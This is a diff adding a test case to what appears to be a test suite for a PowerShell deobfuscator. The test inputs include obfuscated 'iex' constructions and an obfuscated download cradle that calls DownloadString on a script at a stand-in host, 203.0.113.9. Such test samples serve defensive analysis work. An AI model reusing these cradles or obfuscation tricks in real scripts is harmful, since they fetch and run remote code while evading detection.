@@ -300,4 +300,9 @@ describe('normalisation of format operator and host constants', () => {
     expect(deob(".($ShellId[1]+$ShellId[13]+'x')")).toContain("'iex'");
     expect(deob("&($env:ComSpec[4,15,25]-join'')")).toContain("'iex'");
   });
+  it('substitutes string variables as literals where they are concatenated and as text inside strings', () => {
+    const t = deob('$a=\'Down\';$b=\'loadString\';$u="http://203.0.113.9";$w.($a+$b)("$u/a.ps1")');
+    expect(t).toContain("('downloadstring')");
+    expect(t).toContain('("http://203.0.113.9/a.ps1")');
+  });
 });
